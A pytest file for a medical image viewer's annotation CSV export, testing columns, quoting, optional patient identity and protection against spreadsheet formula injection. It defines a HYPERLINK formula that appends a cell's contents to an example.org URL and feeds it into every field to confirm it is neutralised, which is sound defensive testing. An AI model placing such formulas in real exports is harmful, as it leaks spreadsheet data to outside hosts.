"""The table of annotations: what programs and spreadsheets make of it."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.factories.annotations import drawn, length, measured
from tests.factories.viewports import Recipe, flat, loaded, stack_of
from viewer.app.annotation_places import anchor_of
from viewer.export.annotations_csv import (
    COLUMNS,
    IDENTITY,
    MeasuredAnnotation,
    guarded,
    write_annotations_csv,
)
from viewer.model.annotation import AnnotationKind, Measurement, Quantity
from viewer.model.display_set import StackFrame
from viewer.model.geometry import PixelSpacing, SpacingSource
from viewer.model.header import PatientFacts

FRAME = stack_of(flat([1000, 2000]), Recipe(first_mm=-12.5)).frames[1]
FORMULA = '=HYPERLINK("http://example.org?"&A1)'


def entry(text: str = "", frame: StackFrame = FRAME, **more: Any) -> MeasuredAnnotation:
    annotation = replace(length((1.5, 2), (11.5, 2), anchor=anchor_of(frame)), text=text, **more)
    picture = loaded(frame, np.full((64, 64), 1000, np.uint16)).image
    return MeasuredAnnotation(annotation, frame, measured(annotation, picture))


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as stream:
        return list(csv.DictReader(stream))


def test_one_row_for_each_number(tmp_path: Path) -> None:
    box = drawn(AnnotationKind.RECTANGLE, (0, 0), (10, 10), anchor=anchor_of(FRAME))
    picture = loaded(FRAME, np.full((64, 64), 1000, np.uint16)).image
    region = MeasuredAnnotation(box, FRAME, measured(box, picture))
    path = tmp_path / "a.csv"
    assert write_annotations_csv(path, (entry("tumour, left"), region), with_identity=False) == 8
    rows = rows_of(path)
    assert list(rows[0]) == list(COLUMNS)
    first = rows[0]
    assert first["text"] == "tumour, left"
    assert (first["kind"], first["quantity"], first["unit"]) == ("Distance", "Length", "mm")
    assert float(first["value"]) == pytest.approx(7.0)
    assert (first["study_uid"], first["series_uid"], first["sop_instance_uid"]) == (
        *("1.2", "s1", "1.2.1"),
    )
    assert (first["frame"], first["slice_mm"], first["annotation"]) == ("1", "-7.5", "1")
    assert json.loads(first["points_px"]) == [[1.5, 2], [11.5, 2]]
    assert json.loads(first["points_mm"]) == [[1.05, 1.4, -7.5], [8.05, 1.4, -7.5]]
    assert {row["annotation"] for row in rows[1:]} == {"2"}
    means = [row for row in rows if row["quantity"] == "Mean"]
    assert [(row["value"], row["unit"]) for row in means] == [("-24.0", "HU")]


def test_the_file_is_what_rfc_4180_and_excel_want(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write_annotations_csv(path, (entry('he said "Ödem"'),), with_identity=False)
    content = path.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\r\n") == 2
    assert '"he said ""Ödem"""'.encode() in content
    assert b",7.0," in content or b",6.99" in content or b",7.000" in content  # not quoted


def test_the_patient_is_in_it_only_if_asked_for(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write_annotations_csv(path, (entry(),), with_identity=False)
    assert "MUSTERMANN" not in path.read_text("utf-8-sig")
    write_annotations_csv(path, (entry(),), with_identity=True)
    (row,) = rows_of(path)
    assert [row[name] for name in IDENTITY] == [
        *("MUSTERMANN, Erika", "4711", "", "19610514", "20240312"),
    ]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_text_becomes_a_formula(sign: str) -> None:
    assert guarded(f"{sign}1+1") == f"'{sign}1+1"
    assert guarded(f"  {sign}1") == f"  '{sign}1"
    assert guarded(f"a;{sign}1") == f"a;'{sign}1"
    assert guarded(f"a\r\n{sign}1") == f"a\r\n'{sign}1"
    assert guarded(f"a{sign}1") == f"a{sign}1"


def test_neither_a_person_nor_a_file_writes_formulas(tmp_path: Path) -> None:
    patient = PatientFacts(FORMULA, FORMULA, FORMULA, FORMULA)
    coin = PixelSpacing(0.5, 0.5, SpacingSource.FIDUCIAL, "coin")
    frame = stack_of(flat([1]), Recipe(patient=patient, spacing=coin)).frames[0]
    header = replace(frame.header, series=replace(frame.header.series, modality=FORMULA))
    header = replace(header, sop_instance_uid=FORMULA, study=replace(header.study, uid=FORMULA))
    odd = Measurement((Quantity(FORMULA, 1.0, FORMULA, FORMULA),), FORMULA, FORMULA, (FORMULA,))
    made = replace(entry(FORMULA, replace(frame, header=header)), measurement=odd)
    path = tmp_path / "a.csv"
    write_annotations_csv(path, (made,), with_identity=True)
    for cell in rows_of(path)[0].values():
        assert cell[:1] not in {"=", "+", "@"}
        assert "'=" in cell or "=" not in cell


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    cold = Measurement((Quantity("Mean", -842.5, "HU", "\u2212842.5 HU"),))
    path = tmp_path / "a.csv"
    write_annotations_csv(path, (replace(entry(), measurement=cold),), with_identity=False)
    assert b",-842.5," in path.read_bytes()


def test_what_has_no_number_has_a_row_that_says_why(tmp_path: Path) -> None:
    refused = Measurement(refusal="points in different regions")
    infinite = Measurement((Quantity("Mean", float("inf"), "HU", "n/a"),))
    path = tmp_path / "a.csv"
    made = (replace(entry(), measurement=refused), replace(entry(), measurement=infinite))
    assert write_annotations_csv(path, made, with_identity=False) == 2
    first, second = rows_of(path)
    assert (first["value"], first["remarks"]) == ("", "points in different regions")
    assert (second["quantity"], second["value"]) == ("Mean", "")


@given(st.text(st.characters(codec="utf-8"), max_size=30))
def test_all_text_comes_back(text: str) -> None:
    """But for the apostrophes."""
    import tempfile  # noqa: PLC0415  hypothesis and tmp_path do not go together

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.csv"
        write_annotations_csv(path, (entry(text),), with_identity=False)
        (row,) = rows_of(path)
    assert row["text"] == guarded(text)
    assert guarded(text).replace("'", "") == text.replace("'", "")


def test_text_in_no_encoding_is_written_all_the_same(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write_annotations_csv(path, (entry("a\udce9b"),), with_identity=False)
    assert rows_of(path)[0]["text"] == "a\\udce9b"


def test_an_image_without_a_place_has_no_millimetres_in_the_patient(tmp_path: Path) -> None:
    frame = stack_of(flat([1]), Recipe(reference="")).frames[0]
    path = tmp_path / "a.csv"
    write_annotations_csv(path, (entry(frame=frame),), with_identity=False)
    (row,) = rows_of(path)
    assert (row["points_mm"], row["slice_mm"], row["frame_of_reference_uid"]) == ("", "", "")
